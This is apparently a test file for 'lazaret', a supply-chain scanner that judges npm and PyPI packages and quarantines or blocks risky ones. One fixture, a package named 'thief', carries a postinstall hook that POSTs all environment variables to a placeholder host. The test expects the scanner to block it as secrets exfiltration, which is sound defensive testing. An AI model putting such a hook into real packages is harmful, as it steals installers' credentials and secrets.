import { readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import t from 'tap'
import { lazaretEnv, runLazaret } from '../e2e/lazaret.ts'
import { runHere } from './run-here.ts'
import { npmTarball, sdist, wheel } from '../registry/build.ts'
import { startWorld } from '../registry/registry.ts'

const world = await startWorld()
t.teardown(() => world.close())
const folder = t.testdir({ data: {}, folder: {}, 'torn.tgz': 'these bytes are no archive' })
const env = lazaretEnv(world, { port: 4874, dataDir: join(folder, 'data') })
Object.assign(process.env, env)
const at = (name: string): string => join(folder, name)

const THEFT = "fetch('https://collector.invalid/', { method: 'POST', body: JSON.stringify(process.env) })\n"
const BUILT = [
  npmTarball({ name: 'quiet', version: '1.0.0' }),
  npmTarball({ name: 'hooked', version: '1.0.0', files: { 'setup.js': 'console.log(1)\n' } }),
  npmTarball({
    name: 'hooked',
    version: '1.0.1',
    scripts: { postinstall: 'node setup.js' },
    files: { 'setup.js': 'console.log(1)\n' },
  }),
  npmTarball({
    name: 'thief',
    version: '1.0.0',
    scripts: { postinstall: 'node setup.js' },
    files: { 'setup.js': `// one\n${THEFT}` },
  }),
  wheel({ name: 'quiet-py', version: '2.0' }),
  sdist({ name: 'quiet-py', version: '2.0' }),
]
for (const { filename, bytes } of BUILT) writeFileSync(at(filename), bytes)

const npm = { ecosystem: 'npm', kind: 'npm-tarball' }
const quiet = { ...npm, file: at('quiet-1.0.0.tgz'), filename: 'quiet-1.0.0.tgz', name: 'quiet', version: '1.0.0' }
const thief = { ...npm, file: at('thief-1.0.0.tgz'), filename: 'thief-1.0.0.tgz', name: 'thief', version: '1.0.0' }
const hooked = { ...npm, file: at('hooked-1.0.1.tgz'), filename: 'hooked-1.0.1.tgz', name: 'hooked', version: '1.0.1' }

const JOBS: readonly { situation: string; job: unknown; answer: object }[] = [
  {
    situation: 'a quiet package that is established: served, and fields that are not ours come back',
    job: { ...quiet, profile: 'established', id: 7, label: { good: true } },
    answer: { id: 7, label: { good: true }, profile: 'established', outcome: 'allow', deciding: [], findings: [] },
  },
  {
    situation: 'the same as the first release: its age refuses, its bytes do not',
    job: { ...quiet, profile: 'first' },
    answer: { outcome: 'quarantine', deciding: ['new-package'], content: { outcome: 'allow', deciding: [] } },
  },
  {
    situation: 'the same as a release of a young package: likewise',
    job: { ...quiet, profile: 'young' },
    answer: { outcome: 'quarantine', deciding: ['new-package'], content: { outcome: 'allow', deciding: [] } },
  },
  {
    situation: 'a thief: blocked with the file, the line and the moment',
    job: { ...thief, profile: 'established' },
    answer: {
      outcome: 'block',
      content: { outcome: 'block' },
      findings: [{ check: /./ }, { check: 'secrets-exfiltration', path: 'setup.js', line: 2, moment: 'install' }],
    },
  },
  {
    situation: 'an update that begins to run code at install, against the version before',
    job: { ...hooked, profile: 'update', before: at('hooked-1.0.0.tgz') },
    answer: { outcome: 'quarantine', deciding: ['new-install-script'] },
  },
  {
    situation: 'an update that changes nothing',
    job: { ...hooked, profile: 'update', before: at('hooked-1.0.1.tgz') },
    answer: { outcome: 'warn', deciding: ['install-script'] },
  },
  {
    situation: 'an established package whose version before is unknown: the rule that asks for it says so',
    job: { ...hooked, profile: 'established' },
    answer: { hits: [{ rule: /./ }, { rule: 'new-install-script', unknown: /^changes\./ }] },
  },
  {
    situation: 'a wheel under any spelling of its name',
    job: {
      ecosystem: 'pypi',
      kind: 'wheel',
      file: at('quiet_py-2.0-py3-none-any.whl'),
      filename: 'quiet_py-2.0-py3-none-any.whl',
      name: 'Quiet.Py',
      version: '2.0',
      profile: 'established',
    },
    answer: { outcome: 'allow', ms: Number, unpackedBytes: Number, digest: /^[0-9a-f]{64}$/ },
  },
  {
    situation: 'bytes that are no archive: refused, not an error',
    job: { ...quiet, file: at('torn.tgz'), profile: 'established' },
    answer: { outcome: /quarantine|block/, deciding: Array },
  },
  { situation: 'a line that is no JSON', job: '{"file": ', answer: { error: /^no job: file/ } },
  { situation: 'a line that is no object', job: '[1]', answer: { error: /^no job: file/ } },
  { situation: 'a job without a profile', job: { ...quiet, id: 8 }, answer: { id: 8, error: /^no job: profile/ } },
  { situation: 'a profile that is none', job: { ...quiet, profile: 'old' }, answer: { error: /profile/ } },
  {
    situation: 'a file that is not there',
    job: { ...quiet, file: at('none.tgz'), profile: 'first' },
    answer: { error: /ENOENT/ },
  },
  { situation: 'a folder', job: { ...quiet, file: at('folder'), profile: 'first' }, answer: { error: /is no file/ } },
  {
    situation: 'a kind of the other ecosystem',
    job: { ...quiet, kind: 'wheel', profile: 'first' },
    answer: { error: /npm has no files of kind wheel/ },
  },
  {
    situation: 'an update without the version before',
    job: { ...quiet, profile: 'update' },
    answer: { error: /before/ },
  },
  {
    situation: 'a version before of what has none',
    job: { ...quiet, profile: 'first', before: at('quiet-1.0.0.tgz') },
    answer: { error: /not for the profile first/ },
  },
  {
    situation: 'a version before that is not there',
    job: { ...quiet, profile: 'update', before: at('none.tgz') },
    answer: { error: /ENOENT/ },
  },
]

const lines = JOBS.map(({ job }) => (typeof job === 'string' ? job : JSON.stringify(job)))
writeFileSync(at('jobs.jsonl'), `${lines.join('\n')}\n\n`)
const run = await runLazaret(['check', '--jobs', at('jobs.jsonl'), '--out', at('rows.jsonl')], env)
const rows = readFileSync(at('rows.jsonl'), 'utf8').trimEnd().split('\n')

t.test('each job has one answer, in order; those that could not be judged are exit 2 and counted', async (t) => {
  t.equal(run.code, 2, run.stderr)
  t.equal(rows.length, JOBS.length)
  const errors = JOBS.filter(({ answer }) => 'error' in answer).length
  t.match(run.stderr, new RegExp(`, ${errors} error$`, 'm'))
})

for (const [index, { situation, answer }] of JOBS.entries()) {
  t.test(situation, async (t) => {
    const row: unknown = JSON.parse(rows[index] ?? '')
    t.match(row, { job: index + 1, ...answer }, rows[index] ?? '')
    if ('error' in answer) t.notOk('outcome' in (row as object), 'no outcome')
  })
}

t.test('one file under three profiles is inspected once', async (t) => {
  const times = rows.slice(0, 3).map((row) => (JSON.parse(row) as { ms: number }).ms)
  t.equal(new Set(times).size, 1, `${times.join(', ')} milliseconds`)
})

t.test('a policy named for the command judges all jobs; answers of an earlier run are replaced', async (t) => {
  const judged = JSON.stringify({ ...thief, profile: 'established', outcome: 'allow' })
  writeFileSync(at('one.jsonl'), judged)
  const args = ['check', '--jobs', at('one.jsonl'), '--out', at('rows.jsonl'), '--policy', 'monitor']
  const { code, stderr } = await runLazaret(args, env)
  t.equal(code, 0, stderr)
  const text = readFileSync(at('rows.jsonl'), 'utf8')
  t.match(JSON.parse(text), { policy: 'monitor', outcome: /allow|warn/, hits: [{ mode: /observe|enforce/ }] })
})

t.test('the jobs are never written over', async (t) => {
  const before = readFileSync(at('jobs.jsonl'), 'utf8')
  const { code, stderr } = await runLazaret(['check', '--jobs', at('jobs.jsonl'), '--out', at('jobs.jsonl')], env)
  t.equal(code, 2)
  t.match(stderr, /--out is the jobs file itself/)
  t.equal(readFileSync(at('jobs.jsonl'), 'utf8'), before)
})

t.test('check of one file says what it was taken for', async (t) => {
  const alone = await runLazaret(['check', at('quiet-1.0.0.tgz')], env)
  t.match(alone.stdout, /judged as a file alone: ages, .* are unknown \(policy default\)/)
  const first = await runLazaret(['check', at('quiet-1.0.0.tgz'), '--profile', 'first', '--json'], env)
  t.match(JSON.parse(first.stdout), [{ profile: 'first', verdict: { deciding: ['new-package'] } }])
  const update = ['check', at('hooked-1.0.1.tgz'), '--profile', 'update', '--before', at('hooked-1.0.0.tgz')]
  t.match((await runLazaret(update, env)).stdout, /judged as .*compared with[^]*new-install-script/)
})

const WRONG_USE: readonly { situation: string; args: readonly string[]; says: RegExp }[] = [
  { situation: 'jobs without a place for answers', args: ['--jobs', 'a'], says: /go together/ },
  { situation: 'answers without jobs', args: ['--out', 'a'], says: /go together/ },
  { situation: 'jobs beside a target', args: ['x.tgz', '--jobs', 'a', '--out', 'b'], says: /stand alone/ },
  {
    situation: 'jobs under one profile',
    args: ['--jobs', 'a', '--out', 'b', '--profile', 'first'],
    says: /stand alone/,
  },
  {
    situation: 'jobs that are not there',
    args: ['--jobs', at('none.jsonl'), '--out', at('b')],
    says: /none\.jsonl: there is no such file or folder\./,
  },
  {
    situation: 'answers in no folder',
    args: ['--jobs', at('jobs.jsonl'), '--out', at('no/rows')],
    says: /rows: there is no such file or folder\./,
  },
  { situation: 'an update alone', args: [at('quiet-1.0.0.tgz'), '--profile', 'update'], says: /go together/ },
  { situation: 'a profile of a version', args: ['npm:quiet@1.0.0', '--profile', 'first'], says: /is no file here/ },
]

for (const { situation, args, says } of WRONG_USE) {
  t.test(`${situation}: a clear line, exit 2`, async (t) => {
    const { code, stderr } = await runHere(['check', ...args])
    t.equal(code, 2, stderr)
    t.match(stderr, says)
    t.match(stderr, /^lazaret: .*\n$/, 'in one line')
  })
}
